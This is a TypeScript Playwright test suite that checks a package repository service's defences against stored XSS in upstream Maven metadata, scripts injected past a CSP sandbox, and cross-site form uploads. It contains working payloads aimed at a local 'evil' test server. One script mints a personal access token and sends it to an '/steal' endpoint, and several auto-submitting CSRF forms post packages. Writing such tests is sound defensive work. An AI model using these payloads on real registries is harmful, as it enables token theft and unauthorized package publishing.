import { existsSync } from 'node:fs';
import { type Browser, chromium, type Page } from 'playwright-core';
import { StartedService } from '../harness/npm-start.ts';
import { wheelName, wheelOf } from '../harness/pypi.ts';
import { serving, Upstream } from '../harness/upstream.ts';
import { newPassword } from '../harness/world.ts';

/** `npm run test:browser`: what pages of others can do with the password that a browser remembers. Needs Chromium, as the other suite does. */
const executablePath = process.env.CHROMIUM || '/usr/bin/chromium';
const args = [
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

// The start builds the whole stack, which takes minutes on a busy machine.
jest.setTimeout(400_000);

const admin = { username: 'admin', password: newPassword() };
const authorization = `Basic ${Buffer.from(`${admin.username}:${admin.password}`).toString('base64')}`;
/** The server of whoever attacks: an upstream, and a web page. */
const evil = new Upstream();
let service: StartedService;
let browser: Browser;

const call = async (method: string, path: string, body?: object): Promise<Response> =>
  fetch(service.url + path, {
    method,
    headers: { authorization, ...(body && { 'content-type': 'application/json' }) },
    ...(body && { body: JSON.stringify(body) }),
  });

const create = async (path: string, body: object): Promise<void> => {
  const answer = await call('POST', path, body);
  if (answer.status !== 201) throw new Error(`${path} answered ${answer.status}: ${await answer.text()}`);
};

beforeAll(async () => {
  if (!existsSync(executablePath))
    throw new Error(`There is no Chromium at ${executablePath}: set CHROMIUM to its path.`);
  await evil.start();
  browser = await chromium.launch({ executablePath, headless: true, args });
});
afterAll(async () => {
  await browser?.close();
  await evil.stop();
});

/** Starts the service with what the attacks are about. */
const startService = async (variables: Readonly<Record<string, string>>): Promise<void> => {
  service = await StartedService.start('', admin.password, {
    DATA_DIR: ':memory:',
    ...variables,
    STOCKROOM_ADMIN_USERNAME: admin.username,
    ALLOWED_PRIVATE_UPSTREAMS: '127.0.0.1,localhost',
  });
  await create('/1/workspaces', { name: 'acme' });
  const repositories = '/1/workspaces/acme/repositories';
  const locals = { files: 'pypi', images: 'docker', charts: 'helm', bytes: 'universal' };
  for (const [name, packageType] of Object.entries(locals))
    await create(`${repositories}/local`, { name, packageType });
  await create(`${repositories}/remote`, {
    name: 'mirror',
    packageType: 'maven',
    remoteRepositoryUrl: evil.url,
    isRemoteCacheEnabled: true,
  });
};

/** A page of a browser in which a person has typed a password into the dialog for the service. */
const signedIn = async (): Promise<Page> => {
  const context = await browser.newContext({ httpCredentials: { ...admin, origin: service.url } });
  const page = await context.newPage();
  const shown = await page.goto(`${service.url}/pypi/acme/files/simple/`);
  expect(shown?.status()).toBe(200);
  return page;
};

const asked = (): string[] => evil.requests.map(({ url = '' }) => url);

/** Metadata with a script that makes a token of whoever looks at it, and sends it to its author. */
const metadata = (): string => `<metadata><groupId>org</groupId><artifactId>x</artifactId>
<s:script xmlns:s="http://www.w3.org/1999/xhtml"><![CDATA[
fetch("${evil.url}/ran", { mode: "no-cors" });
fetch("/1/users/personal-access-tokens", { method: "POST", headers: { "content-type": "application/json" }, body: '{"name":"pwn"}' })
  .then((answer) => answer.json()).then(({ token }) => fetch("${evil.url}/steal?" + token, { mode: "no-cors" }));
]]></s:script><versioning><versions><version>1</version></versions></versioning></metadata>`;

const tokens = async (): Promise<unknown> => (await call('GET', '/1/users/personal-access-tokens')).json();

const wheel = { name: 'csrfed', version: '1.0' };

/** A page that fills a file into a form and sends it, as `twine upload` does. */
const attack =
  (): string => `<!doctype html><form method="post" enctype="multipart/form-data" action="${service.url}/pypi/acme/files/">
<input name=":action" value="file_upload"><input name="protocol_version" value="1"><input name="filetype" value="bdist_wheel">
<input name="pyversion" value="py3"><input name="metadata_version" value="2.1">
<input name="name" value="${wheel.name}"><input name="version" value="${wheel.version}"><input type="file" name="content"></form>
<script>
const bytes = Uint8Array.from(atob("${Buffer.from(wheelOf(wheel)).toString('base64')}"), (letter) => letter.charCodeAt(0));
const files = new DataTransfer();
files.items.add(new File([bytes], "${wheelName(wheel)}"));
document.querySelector("input[type=file]").files = files.files;
document.forms[0].submit();
</script>`;

const formOf = (): FormData => {
  const form = new FormData();
  const fields = { ':action': 'file_upload', protocol_version: '1', filetype: 'bdist_wheel', pyversion: 'py3' };
  for (const [name, value] of Object.entries({ ...fields, metadata_version: '2.1', ...wheel }))
    form.append(name, value);
  form.append('content', new Blob([wheelOf(wheel)]), wheelName(wheel));
  return form;
};

const isListed = async (): Promise<boolean> =>
  (await (await call('GET', '/pypi/acme/files/simple/')).text()).includes(wheel.name);

/** Forms that need no question before they are sent, with the media types that a page may choose. */
const forms: readonly (readonly [name: string, path: string, enctype: string])[] = [
  ['a blob of an image', '/v2/acme/images/app/blobs/uploads/', 'text/plain'],
  ['a chart', '/helm/acme/charts/api/charts', 'multipart/form-data'],
  ['files of a version', '/1/workspaces/acme/repositories/bytes/packages/single', 'multipart/form-data'],
];

const formTo = (path: string, enctype: string): string =>
  `<!doctype html><form method="post" enctype="${enctype}" action="${service.url}${path}"><input name="a" value="b"></form>
<script>document.forms[0].submit();</script>`;

describe.each([
  ['the gateway', { UPLOADS: 'gateway' }],
  ['a door, which refuses before anybody asks for a credential', {}],
])('Behind %s, the service', (_front, variables) => {
  beforeAll(async () => startService(variables));
  afterAll(async () => service?.end());

  it("runs nothing of an upstream's metadata, which a browser runs at the upstream itself", async () => {
    evil.answer = (request, response) => serving(metadata(), { 'Content-Type': 'application/xml' })(request, response);
    const page = await signedIn();
    const before = await tokens();
    const path = '/maven/acme/mirror/org/x/maven-metadata.xml';
    await page
      .goto(service.url + path)
      .catch((error: Error) => expect(error.message).toContain('Download is starting'));
    await page.waitForTimeout(1_500);
    expect(asked().filter((url) => /ran|steal/.test(url))).toEqual([]);
    expect(await tokens()).toEqual(before);
    expect(await (await call('GET', path)).text()).toContain('<version>1</version>');

    await page.goto(`${evil.url}/org/x/maven-metadata.xml`);
    await page.waitForTimeout(1_500);
    expect(asked().filter((url) => url === '/ran')).toEqual(['/ran']);
    await page.context().close();
  });

  it('runs no script that somebody puts into a page which is shown, because of its sandbox', async () => {
    evil.reset();
    const page = await signedIn();
    const path = '/pypi/acme/files/simple/';
    const script = `<script>fetch("${evil.url}/ran", { mode: "no-cors" }); document.title = "ran";</script>`;
    const sent: Record<string, string>[] = [];
    // As a hole in the page itself would: the bytes change, and the headers stay those of the service.
    await page.route(`${service.url}${path}`, async (route) => {
      const response = await route.fetch();
      sent.push(response.headers());
      await route.fulfill({ response, body: (await response.text()).replace('<body>', `<body>${script}`) });
    });
    await page.goto(service.url + path);
    expect(await page.content()).toContain('document.title = "ran"');
    await page.waitForTimeout(1_500);
    expect([await page.title(), asked().includes('/ran')]).toEqual([expect.not.stringContaining('ran'), false]);
    expect(sent[0]?.['content-security-policy']).toContain('sandbox');

    // The same page runs without that header, so it is the header that keeps the script dead.
    await page.unroute(`${service.url}${path}`);
    await page.route(`${service.url}${path}`, async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': _, ...headers } = response.headers();
      await route.fulfill({ response, headers, body: (await response.text()).replace('<body>', `<body>${script}`) });
    });
    await page.goto(service.url + path);
    await page.waitForTimeout(1_500);
    expect(await page.title()).toBe('ran');
    await page.context().close();
  });

  it('publishes nothing for a page of another site, which twine publishes with the same form', async () => {
    evil.reset();
    evil.answer = (request, response) => serving(attack(), { 'Content-Type': 'text/html' })(request, response);
    const page = await signedIn();
    const answered = page.waitForResponse((answer) => answer.request().method() === 'POST');
    await page.goto(evil.url).catch(() => {});
    const answer = await answered;
    expect([answer.status(), new URL(answer.url()).origin]).toEqual([403, service.url]);
    // Without the credential that the browser adds, it would be a 401.
    expect(JSON.parse(await answer.text())).toMatchObject({ code: 'CROSS_SITE_REQUEST' });
    expect(await isListed()).toBe(false);

    const own = await fetch(`${service.url}/pypi/acme/files/`, {
      method: 'POST',
      headers: { authorization },
      body: formOf(),
    });
    expect([own.status, await isListed()]).toEqual([200, true]);
    await page.context().close();
  });

  it.each(forms)('takes %s from no page of another site', async (_, path, enctype) => {
    evil.reset();
    evil.answer = (request, response) =>
      serving(formTo(path, enctype), { 'Content-Type': 'text/html' })(request, response);
    const page = await signedIn();
    const answered = page.waitForResponse((answer) => answer.request().method() === 'POST');
    await page.goto(evil.url).catch(() => {});
    const answer = await answered;
    expect([answer.status(), new URL(answer.url()).pathname]).toEqual([403, path]);
    expect(await answer.text()).toContain('CROSS_SITE_REQUEST');
    await page.context().close();
  });
});
